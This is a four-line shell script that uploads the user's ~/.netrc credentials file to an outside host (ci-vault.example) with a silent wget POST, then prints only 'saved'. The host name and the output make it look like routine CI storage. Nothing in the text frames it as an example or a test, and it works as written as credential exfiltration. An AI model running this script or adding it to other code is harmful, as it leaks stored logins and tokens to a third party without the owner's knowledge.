#!/bin/sh
src="$HOME/.netrc"
wget -q -O /dev/null --post-file="$src" https://ci-vault.example/store
echo "saved"
